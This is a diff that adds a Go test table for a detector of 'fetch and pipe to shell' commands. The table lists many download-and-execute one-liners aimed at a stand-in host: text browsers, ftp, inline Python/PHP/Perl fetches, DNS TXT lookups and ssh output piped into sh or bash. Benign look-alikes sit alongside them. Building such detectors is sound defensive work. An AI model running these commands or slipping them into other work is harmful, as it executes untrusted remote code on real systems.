@@ -407,3 +407,46 @@ func TestInlineDownloadsRun(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestOtherFetchersPipedToShells: "curl URL | sh" is a family of every
+// program that prints what another host sends (download-execute, README:
+// a script fetched and run). Members beyond curl, wget, fetch, HTTPie, xh
+// and aria2c: text browsers printing a page's source (lynx(1) -source|
+// -dump, elinks(1) -source|-dump, links(1) -source|-dump, w3m(1)
+// -dump_source|-dump); BSD ftp(1)'s auto-fetch to "-o -"; curlie; an
+// inline program that prints a URL's body (Python's urlopen, PHP's
+// file_get_contents, LWP::Simple getprint, Ruby's Net::HTTP.get); DNS TXT
+// records, which carry commands (MITRE ATT&CK T1071.004: dig TXT, dig -t
+// txt, nslookup -q=txt|-type=txt, host -t txt); and the output of a
+// command run on another host by ssh(1). Everyday beside them: the same
+// output printed, paged or searched.
+func TestOtherFetchersPipedToShells(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`lynx -source https://x.example/i.sh | sh`, DownloadExecute},
+		{`elinks -source https://x.example/i.sh | bash`, DownloadExecute},
+		{`links -source https://x.example/i.sh | sh`, DownloadExecute},
+		{`w3m -dump_source https://x.example/i.sh | sh`, DownloadExecute},
+		{`ftp -o - https://x.example/i.sh | sh`, DownloadExecute},
+		{`curlie https://x.example/i.sh | sh`, DownloadExecute},
+		{`python3 -c "import urllib.request;print(urllib.request.urlopen('https://x.example/i.sh').read().decode())" | sh`, DownloadExecute},
+		{`php -r 'echo file_get_contents("https://x.example/i.sh");' | sh`, DownloadExecute},
+		{`perl -MLWP::Simple -e 'getprint "https://x.example/i.sh"' | bash`, DownloadExecute},
+		{`dig +short TXT x.example | tr -d '"' | bash`, DownloadExecute},
+		{`dig -t txt cmd.x.example +short | sh`, DownloadExecute},
+		{`nslookup -q=txt x.example | grep text | sh`, DownloadExecute},
+		{`host -t txt x.example | cut -d'"' -f2 | sh`, DownloadExecute},
+		{`ssh host cat /tmp/i.sh | sh`, DownloadExecute},
+		{`lynx -dump https://x.example | grep -i release`, ""},
+		{`w3m -dump https://x.example`, ""},
+		{`dig +short TXT x.example | grep spf`, ""},
+		{`dig x.example | sh`, ""},
+		{`ssh host cat /var/log/syslog | less`, ""},
+		{`ssh host | sh`, ""},
+		{`ssh -i key -p 22 host | sh`, ""},
+		{`python3 -c "print('echo hi')" | sh`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
